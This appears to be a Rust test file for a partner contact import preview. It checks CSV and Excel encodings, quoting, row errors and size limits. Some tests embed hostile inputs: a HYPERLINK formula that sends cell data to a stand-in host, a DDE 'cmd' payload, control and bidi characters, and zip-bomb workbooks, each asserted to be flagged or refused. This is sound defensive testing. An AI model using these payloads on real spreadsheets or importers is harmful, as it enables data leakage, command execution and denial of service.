//! Partner CSV preview: encodings, CSV quoting, each row problem, hostile
//! rows and the limits.

use super::*;

fn only_valid(p: &ImportPreview) -> Vec<(u32, &str, &str, Option<&str>)> {
    assert_eq!(p.file_error, None, "{p:?}");
    p.valid
        .iter()
        .map(|r| (r.row, r.name.as_str(), r.phone.as_str(), r.note.as_deref()))
        .collect()
}

fn reasons(p: &ImportPreview) -> Vec<(u32, ImportReason, Option<ImportColumn>)> {
    p.errors
        .iter()
        .map(|e| (e.row, e.reason, e.column))
        .collect()
}

const SAMPLE: &str = "姓名,手机号,备注\n张三,13800138000,老客户\n李四,+86 139-0013-9000,\n";

#[test]
fn utf8_without_bom() {
    let p = preview(SAMPLE.as_bytes());
    assert_eq!(p.encoding, Some(ImportEncoding::Utf8));
    assert_eq!(
        only_valid(&p),
        vec![
            (2, "张三", "+8613800138000", Some("老客户")),
            (3, "李四", "+8613900139000", None),
        ]
    );
    assert_eq!(p.total_rows, 2);
    assert!(p.ok_to_import());
}

#[test]
fn utf8_with_bom_crlf_and_headers_in_any_order_and_case() {
    let text = "\u{FEFF} Phone ,NAME,Note\r\n13800138000,Alice Wong,vip\r\n";
    let p = preview(text.as_bytes());
    assert_eq!(p.encoding, Some(ImportEncoding::Utf8Bom));
    assert_eq!(
        only_valid(&p),
        vec![(2, "Alice Wong", "+8613800138000", Some("vip"))]
    );
}

#[test]
fn gbk_as_excel_in_china_writes_it() {
    let text = "姓名,电话,备注\r\n王小明,13800138000,朋友介绍\r\n";
    let (bytes, _, unmappable) = encoding_rs::GBK.encode(text);
    assert!(!unmappable);
    assert!(
        std::str::from_utf8(&bytes).is_err(),
        "the test must use non-UTF-8 bytes"
    );
    let p = preview(&bytes);
    assert_eq!(p.encoding, Some(ImportEncoding::Gbk));
    assert_eq!(
        only_valid(&p),
        vec![(2, "王小明", "+8613800138000", Some("朋友介绍"))]
    );
}

#[test]
fn utf16_unicode_text_with_tabs() {
    let text = "姓名\t手机\n赵六\t13700137000\n";
    let mut bytes = vec![0xFF, 0xFE];
    bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    let p = preview(&bytes);
    assert_eq!(p.encoding, Some(ImportEncoding::Utf16));
    assert_eq!(only_valid(&p), vec![(2, "赵六", "+8613700137000", None)]);
}

#[test]
fn quoted_fields_with_separators_quotes_and_line_breaks() {
    let text = "name,phone,note\n\"王, 五\",\"138 0013 8001\",\"他说\"\"你好\"\"\n第二行\"\n陈七,13800138002,plain\n";
    let p = preview(text.as_bytes());
    // The quoted line break keeps the record on Excel's row 2; 陈七 is row 3.
    assert_eq!(
        only_valid(&p),
        vec![
            (2, "王, 五", "+8613800138001", Some("他说\"你好\" 第二行")),
            (3, "陈七", "+8613800138002", Some("plain")),
        ]
    );
}

#[test]
fn semicolons_blank_rows_and_row_numbers() {
    let text = "姓名;手机\n\n甲;13800138000\n;\n乙;13800138001\n";
    let p = preview(text.as_bytes());
    // Blank rows are skipped but still count for the row numbers Excel shows.
    assert_eq!(
        only_valid(&p),
        vec![
            (3, "甲", "+8613800138000", None),
            (5, "乙", "+8613800138001", None)
        ]
    );
    assert_eq!(p.total_rows, 2);
}

#[test]
fn each_row_problem_has_its_reason_and_row() {
    let long_name = "长".repeat(MAX_NAME_CHARS + 1);
    let text = format!(
        "姓名,手机,备注\n\
         好人,13800138000,\n\
         坏号,12345,\n\
         ,13800138001,\n\
         没号,,\n\
         重复,138 0013 8000,\n\
         {long_name},13800138002,\n\
         多列,13800138003,ok,extra\n\
         空多列,13800138004,ok,,\n"
    );
    let p = preview(text.as_bytes());
    assert_eq!(
        reasons(&p),
        vec![
            (3, ImportReason::BadPhone, Some(ImportColumn::Phone)),
            (4, ImportReason::MissingName, Some(ImportColumn::Name)),
            (5, ImportReason::MissingPhone, Some(ImportColumn::Phone)),
            (6, ImportReason::DuplicatePhone, Some(ImportColumn::Phone)),
            (7, ImportReason::TooLong, Some(ImportColumn::Name)),
            (8, ImportReason::TooManyColumns, None),
        ]
    );
    let dup = &p.errors[3];
    assert_eq!(
        (dup.duplicate_of, dup.value.as_str()),
        (Some(2), "+8613800138000")
    );
    assert_eq!(p.errors[0].value, "12345");
    assert_eq!(p.errors[5].value, "extra");
    // Empty cells past the header are what Excel writes: not an error.
    assert_eq!(
        only_valid(&p).iter().map(|r| r.0).collect::<Vec<_>>(),
        vec![2, 9]
    );
    assert_eq!(p.total_rows, 8);
    assert!(!p.ok_to_import());
}

#[test]
fn formulas_are_flagged_not_imported() {
    let text = "姓名,手机,备注\n\
        \"=HYPERLINK(\"\"http://e.x/?\"\"&A1,\"\"点我\"\")\",13800138000,\n\
        @SUM(1),13800138001,\n\
        正常,=1+1,\n\
        正常二,13800138002,+cmd|' /C calc'!A0\n\
        正常三,13800138003,-2+3\n\
        正常四,+86 13800138004,ok\n";
    let p = preview(text.as_bytes());
    assert_eq!(
        reasons(&p),
        vec![
            (2, ImportReason::Formula, Some(ImportColumn::Name)),
            (3, ImportReason::Formula, Some(ImportColumn::Name)),
            (4, ImportReason::Formula, Some(ImportColumn::Phone)),
            (5, ImportReason::Formula, Some(ImportColumn::Note)),
            (6, ImportReason::Formula, Some(ImportColumn::Note)),
        ]
    );
    assert!(p.errors[0].value.starts_with("=HYPERLINK("));
    // A leading + is how phones are written, not a formula.
    assert_eq!(
        only_valid(&p),
        vec![(7, "正常四", "+8613800138004", Some("ok"))]
    );
}

#[test]
fn control_and_invisible_characters_are_flagged_and_shown_safely() {
    let text = "姓名,手机,备注\n\
        响\u{7}铃,13800138000,\n\
        \u{202E}反转,13800138001,\n\
        零\u{200B}宽,13800138002,\n\
        好,13800138003,\"多行\r\n备注\"\n\
        \t制表\t,\t13800138004,\n\
        坏备注,13800138005,a\u{1B}[31mb\n";
    let p = preview(text.as_bytes());
    assert_eq!(
        reasons(&p),
        vec![
            (2, ImportReason::ControlCharacter, Some(ImportColumn::Name)),
            (3, ImportReason::ControlCharacter, Some(ImportColumn::Name)),
            (4, ImportReason::ControlCharacter, Some(ImportColumn::Name)),
            (7, ImportReason::ControlCharacter, Some(ImportColumn::Note)),
        ]
    );
    assert_eq!(p.errors[0].value, "响\u{FFFD}铃");
    assert_eq!(p.errors[1].value, "\u{FFFD}反转");
    // Line breaks in notes and tabs around cells (exports add them) are whitespace.
    assert_eq!(
        only_valid(&p),
        vec![
            (5, "好", "+8613800138003", Some("多行 备注")),
            (6, "制表", "+8613800138004", None),
        ]
    );
}

#[test]
fn full_width_digits_and_excel_apostrophe_are_phones() {
    let text = "姓名,手机\n全角,１３８００１３８０００\n撇号,'13800138001\n";
    let p = preview(text.as_bytes());
    assert_eq!(
        only_valid(&p),
        vec![
            (2, "全角", "+8613800138000", None),
            (3, "撇号", "+8613800138001", None)
        ]
    );
}

fn rows(n: usize) -> Vec<u8> {
    let mut text = String::from("姓名,手机\n");
    for i in 0..n {
        text.push_str(&format!("伙伴{i},138{i:08}\n"));
    }
    text.into_bytes()
}

#[test]
fn ten_thousand_rows_pass_one_more_is_refused() {
    let p = preview(&rows(MAX_ROWS));
    assert_eq!(p.valid.len(), MAX_ROWS);
    assert!(p.ok_to_import());
    let p = preview(&rows(MAX_ROWS + 1));
    assert_eq!(p.file_error, Some(ImportFileError::TooManyRows));
    assert!(p.valid.is_empty() && p.errors.is_empty());
}

#[test]
fn files_over_the_size_limit_are_refused() {
    let mut bytes = b"name,phone,note\n".to_vec();
    bytes.resize(MAX_BYTES + 1, b'x');
    assert_eq!(preview(&bytes).file_error, Some(ImportFileError::TooLarge));
}

#[test]
fn empty_header_only_and_headerless_files() {
    for empty in [&b""[..], b"\xEF\xBB\xBF", b"\r\n\r\n", b" , ,\n"] {
        let p = preview(empty);
        assert_eq!(p.file_error, Some(ImportFileError::Empty), "{empty:?}");
        assert!(!p.ok_to_import());
    }
    let p = preview("姓名,手机号\r\n".as_bytes());
    assert_eq!(p.file_error, Some(ImportFileError::NoRows));
    let p = preview("张三,13800138000\n".as_bytes());
    assert_eq!(p.file_error, Some(ImportFileError::MissingHeader));
    let p = preview("姓名,备注\n张三,x\n".as_bytes());
    assert_eq!(p.file_error, Some(ImportFileError::MissingHeader));
}

#[test]
fn damaged_workbooks_and_binary_are_refused_clearly() {
    let p = preview(b"PK\x03\x04\x14\x00\x06\x00");
    assert_eq!(p.encoding, Some(ImportEncoding::Xlsx));
    assert_eq!(p.file_error, Some(ImportFileError::UnreadableWorkbook));
    let p = preview(b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1");
    assert_eq!(p.encoding, Some(ImportEncoding::Xls));
    assert_eq!(p.file_error, Some(ImportFileError::UnreadableWorkbook));
    let p = preview(b"name,phone\n\x00\x01\x02");
    assert_eq!(p.file_error, Some(ImportFileError::NotText));
    // Neither UTF-8 nor GBK (0xFF is never valid in GBK).
    let p = preview(b"name,phone\n\xFF\xFF,1\n");
    assert_eq!(p.file_error, Some(ImportFileError::NotText));
}

#[test]
fn quotes_inside_a_field_are_text_and_a_closed_quote_may_be_followed_by_text() {
    let text = "姓名,手机,备注\n张\"三\",13800138000,说\"好\"\n\"李\"四,13800138001,x\n";
    let p = preview(text.as_bytes());
    assert_eq!(
        only_valid(&p),
        vec![
            (2, "张\"三\"", "+8613800138000", Some("说\"好\"")),
            (3, "李四", "+8613800138001", Some("x")),
        ]
    );
}

#[test]
fn lone_carriage_returns_end_rows_and_blank_ones_still_count() {
    let text = "姓名,手机\r甲,13800138000\r\r\r\n乙,13800138001\r\n";
    let p = preview(text.as_bytes());
    assert_eq!(
        only_valid(&p),
        vec![
            (2, "甲", "+8613800138000", None),
            (5, "乙", "+8613800138001", None)
        ]
    );
}

#[test]
fn unterminated_quote_does_not_panic() {
    let p = preview("姓名,手机\n\"张三,13800138000\n李四,13800138001\n".as_bytes());
    // The open quote swallows the rest of the file into one name cell, line
    // breaks included: no phone, and a name with control characters.
    assert_eq!(
        reasons(&p),
        vec![
            (2, ImportReason::ControlCharacter, Some(ImportColumn::Name)),
            (2, ImportReason::MissingPhone, Some(ImportColumn::Phone)),
        ]
    );
}

#[test]
fn serialized_as_the_ui_reads_it() {
    let p = preview("姓名,手机\n张三,123\n".as_bytes());
    let json = serde_json::to_value(&p).unwrap();
    assert_eq!(json["encoding"], "utf8");
    assert_eq!(json["errors"][0]["reason"], "bad_phone");
    assert_eq!(json["errors"][0]["column"], "phone");
}

mod xlsx {
    //! Workbooks made by a library, as Excel would save them.

    use super::*;
    use rust_xlsxwriter::Workbook;

    /// A workbook of one sheet with `rows` written as text or numbers
    /// (cells that parse as f64 and do not start with '+' are numbers, as
    /// Excel stores a phone typed into a general cell).
    fn book(sheets: &[&[&[&str]]]) -> Vec<u8> {
        let mut wb = Workbook::new();
        for rows in sheets {
            let ws = wb.add_worksheet();
            for (r, cells) in rows.iter().enumerate() {
                for (c, v) in cells.iter().enumerate() {
                    let (r, c) = (r as u32, c as u16);
                    match v.parse::<f64>() {
                        _ if v.is_empty() => {}
                        Ok(n) if !v.starts_with('+') => {
                            ws.write_number(r, c, n).unwrap();
                        }
                        _ => {
                            ws.write_string(r, c, *v).unwrap();
                        }
                    }
                }
            }
        }
        wb.save_to_buffer().unwrap()
    }

    #[test]
    fn rows_read_like_csv_with_numbers_as_phones() {
        let bytes = book(&[&[
            &["姓名", "手机号", "备注"],
            &["张三", "13800138000", "老客户"],
            &["", "", ""],
            &["李四", "+86 139-0013-9000", ""],
        ]]);
        let p = preview(&bytes);
        assert_eq!(p.encoding, Some(ImportEncoding::Xlsx));
        assert_eq!(
            only_valid(&p),
            vec![
                (2, "张三", "+8613800138000", Some("老客户")),
                (4, "李四", "+8613900139000", None),
            ]
        );
        assert!(p.ok_to_import());
    }

    #[test]
    fn the_same_row_errors_as_csv() {
        let bytes = book(&[&[
            &["姓名", "手机"],
            &["好人", "13800138000"],
            &["坏号", "12345"],
            &["", "13800138001"],
            &["重复", "13800138000"],
            &["=cmd", "13800138002"],
        ]]);
        let p = preview(&bytes);
        assert_eq!(
            reasons(&p),
            vec![
                (3, ImportReason::BadPhone, Some(ImportColumn::Phone)),
                (4, ImportReason::MissingName, Some(ImportColumn::Name)),
                (5, ImportReason::DuplicatePhone, Some(ImportColumn::Phone)),
                (6, ImportReason::Formula, Some(ImportColumn::Name)),
            ]
        );
        assert_eq!(p.errors[1].value, "");
        assert_eq!(p.errors[2].duplicate_of, Some(2));
        assert_eq!(p.errors[0].value, "12345");
    }

    #[test]
    fn a_missing_column_names_the_file_problem() {
        let p = preview(&book(&[&[&["姓名", "备注"], &["张三", "x"]]]));
        assert_eq!(p.file_error, Some(ImportFileError::MissingHeader));
    }

    #[test]
    fn empty_sheets_are_empty_and_a_later_sheet_with_rows_is_read() {
        let p = preview(&book(&[&[]]));
        assert_eq!(p.encoding, Some(ImportEncoding::Xlsx));
        assert_eq!(p.file_error, Some(ImportFileError::Empty));
        let p = preview(&book(&[&[&["姓名", "手机"]]]));
        assert_eq!(p.file_error, Some(ImportFileError::NoRows));
        let p = preview(&book(&[
            &[],
            &[&["姓名", "手机"], &["王五", "13700137000"]],
        ]));
        assert_eq!(only_valid(&p), vec![(2, "王五", "+8613700137000", None)]);
    }

    #[test]
    fn a_filled_cell_beyond_the_header_is_too_many_columns() {
        let p = preview(&book(&[&[
            &["姓名", "手机"],
            &["张三", "13800138000", "", "多余"],
        ]]));
        assert_eq!(reasons(&p), vec![(2, ImportReason::TooManyColumns, None)]);
    }

    #[test]
    fn ten_thousand_rows_pass_one_more_is_refused() {
        let build = |n: usize| {
            let mut wb = Workbook::new();
            let ws = wb.add_worksheet();
            ws.write_string(0, 0, "姓名").unwrap();
            ws.write_string(0, 1, "手机").unwrap();
            for i in 0..n {
                let r = i as u32 + 1;
                ws.write_string(r, 0, format!("伙伴{i}")).unwrap();
                ws.write_number(r, 1, 13_800_000_000.0 + i as f64).unwrap();
            }
            wb.save_to_buffer().unwrap()
        };
        let p = preview(&build(MAX_ROWS));
        assert_eq!(p.valid.len(), MAX_ROWS);
        let p = preview(&build(MAX_ROWS + 1));
        assert_eq!(p.file_error, Some(ImportFileError::TooManyRows));
    }

    /// `bytes` (a .xlsx) with part `name` replaced by (or, when absent,
    /// added as) `content`, deflated as Excel does.
    fn repack(bytes: &[u8], name: &str, content: &[u8]) -> Vec<u8> {
        use std::io::{Cursor, Write};
        let mut from = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
        let mut to = zip::ZipWriter::new(Cursor::new(Vec::new()));
        for i in 0..from.len() {
            let part = from.by_index_raw(i).unwrap();
            if part.name().unwrap() != name {
                to.raw_copy_file(part).unwrap();
            }
        }
        let deflated = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated)
            .large_file(content.len() > u32::MAX as usize);
        to.start_file(name, deflated).unwrap();
        to.write_all(content).unwrap();
        to.finish().unwrap().into_inner()
    }

    fn shared_strings(n: usize) -> Vec<u8> {
        let mut xml = format!(
            r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="{n}" uniqueCount="{n}">"#
        );
        // The header the sheet points at first, then texts nobody uses.
        xml.push_str("<si><t>姓名</t></si><si><t>手机</t></si><si><t>张三</t></si>");
        for _ in 3..n {
            xml.push_str("<si><t/></si>");
        }
        xml.push_str("</sst>");
        xml.into_bytes()
    }

    #[test]
    fn a_zip_bomb_is_refused_by_its_declared_size_before_it_is_inflated() {
        use crate::limits::{MAX_IMPORT_BYTES, MAX_IMPORT_UNZIPPED_BYTES};
        let good = book(&[&[&["姓名", "手机"], &["张三", "13800138000"]]]);
        // The shared strings calamine loads at once, padded with blanks past
        // what a workbook may unpack to: a few hundred KB on disk.
        let mut sst = shared_strings(3);
        sst.splice(
            sst.len() - 6..sst.len() - 6,
            vec![b' '; MAX_IMPORT_UNZIPPED_BYTES],
        );
        let bomb = repack(&good, "xl/sharedStrings.xml", &sst);
        assert!(bomb.len() < MAX_IMPORT_BYTES, "{} bytes", bomb.len());
        let p = preview(&bomb);
        assert_eq!(p.encoding, Some(ImportEncoding::Xlsx));
        assert_eq!(p.file_error, Some(ImportFileError::WorkbookTooLarge));
        // Any part counts, not only those calamine reads first.
        let mut zeros = repack(
            &good,
            "xl/media/image1.png",
            &vec![0; MAX_IMPORT_UNZIPPED_BYTES],
        );
        assert_eq!(
            preview(&zeros).file_error,
            Some(ImportFileError::WorkbookTooLarge)
        );
        // Just under the limit, the workbook reads as usual.
        zeros = repack(
            &good,
            "xl/media/image1.png",
            &vec![0; MAX_IMPORT_UNZIPPED_BYTES / 2],
        );
        assert_eq!(
            only_valid(&preview(&zeros)),
            vec![(2, "张三", "+8613800138000", None)]
        );
    }

    #[test]
    fn too_many_shared_strings_are_refused_while_they_stream() {
        use crate::limits::MAX_IMPORT_SHARED_STRINGS;
        let good = book(&[&[&["姓名", "手机"], &["张三", "13800138000"]]]);
        let many = repack(
            &good,
            "xl/sharedStrings.xml",
            &shared_strings(MAX_IMPORT_SHARED_STRINGS + 1),
        );
        assert_eq!(
            preview(&many).file_error,
            Some(ImportFileError::WorkbookTooLarge)
        );
        let enough = repack(
            &good,
            "xl/sharedStrings.xml",
            &shared_strings(MAX_IMPORT_SHARED_STRINGS),
        );
        assert_eq!(
            only_valid(&preview(&enough)),
            vec![(2, "张三", "+8613800138000", None)]
        );
    }

    #[test]
    fn more_filled_cells_than_an_import_may_bring_are_refused() {
        use crate::limits::{MAX_IMPORT_CELLS, MAX_IMPORT_COLUMNS};
        // Few rows, each far wider than any import: the cell count stops it.
        let width = MAX_IMPORT_COLUMNS as u16 * 4;
        let rows = (MAX_IMPORT_CELLS / width as usize) as u32 + 1;
        let mut wb = Workbook::new();
        let ws = wb.add_worksheet();
        for r in 0..rows {
            for c in 0..width {
                ws.write_number(r, c, 1.0).unwrap();
            }
        }
        let bytes = wb.save_to_buffer().unwrap();
        let read = workbook::rows(&bytes, ImportEncoding::Xlsx);
        assert_eq!(read.err(), Some(ImportFileError::WorkbookTooLarge));
    }

    #[test]
    fn a_truncated_workbook_is_unreadable_not_a_panic() {
        let bytes = book(&[&[&["姓名", "手机"], &["张三", "13800138000"]]]);
        let p = preview(&bytes[..bytes.len() / 2]);
        assert_eq!(p.file_error, Some(ImportFileError::UnreadableWorkbook));
    }
}
